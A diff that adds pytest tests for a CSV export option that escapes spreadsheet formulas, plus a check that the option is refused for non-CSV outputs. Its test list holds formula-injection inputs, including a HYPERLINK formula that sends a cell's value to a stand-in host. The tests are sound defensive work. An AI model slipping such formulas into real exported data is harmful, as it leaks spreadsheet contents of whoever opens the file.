@@ -371,6 +371,44 @@ def test_csv_has_a_column_for_each_value(ask: Ask, tmp_path: pathlib.Path) -> No
         ask(tmp_path / "x.jsonl", tmp_path / "wide.jsonl", signature="named", output="out.csv")
 
 
+FORMULAS = (
+    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\x00=1", "\uff1d1",
+    "\uff0b1", "\uff0d1", "\uff20A", "\ufe661", "=", "-", "--1", "-1.5 EUR", "'=1", "''=1", "\ttext", "=1,2;=3",
+    "=a\n=b\r\nc", '=HYPERLINK("http://a/?b="&A1,"c")',
+)  # fmt: skip
+TEXTS = (
+    "", "text", "-1.5", "+3", "-1e5", ".5", "-.5", "-007", "a=1", "a\n=1", "a\r=1", "'text", "'", "1-2", "é", '"=1"',
+)  # fmt: skip
+
+
+def test_texts_that_are_formulas_are_escaped_by_option(ask: Ask, tmp_path: pathlib.Path) -> None:
+    texts = [*FORMULAS, *TEXTS]
+    lines = [{"text": text, "=id": text, "x": -1.5, "n": -2} for text in texts]
+    (tmp_path / "x.jsonl").write_text("".join(f"{json.dumps(line)}\n" for line in lines))
+    flags = {"signature": "text", "with_inputs": True, "batch_size": 7}
+
+    def rows(**more: object) -> list[list[str]]:
+        with ask(tmp_path / "x.jsonl", output="out.csv", **flags, **more).open(newline="") as file:
+            return list(csv.reader(file))
+
+    assert rows() == [
+        ["input_text", "=id", "x", "n", "length", "text"],
+        *([text, text, "-1.5", "-2", str(len(text.encode())), text] for text in texts),
+    ]
+    expected = {text: f"'{text}" for text in FORMULAS} | {text: text for text in TEXTS}
+    assert rows(escape_formulas=True) == [
+        ["input_text", "'=id", "x", "n", "length", "text"],
+        *([expected[text], expected[text], "-1.5", "-2", str(len(text.encode())), expected[text]] for text in texts),
+    ]
+
+
+@pytest.mark.parametrize("output", ["out.jsonl", "out.parquet", "out.tfrecord", "-"])
+def test_formulas_are_escaped_in_csv_only(ask: Ask, tmp_path: pathlib.Path, output: str) -> None:
+    (tmp_path / "x.csv").write_text("x\n1\n")
+    with pytest.raises(InputError, match=r"--escape-formulas: --output .* is not CSV"):
+        ask(tmp_path / "x.csv", output=output, escape_formulas=True)
+
+
 def tf_features(path: pathlib.Path) -> list[Any]:
     import tensorflow as tf
 
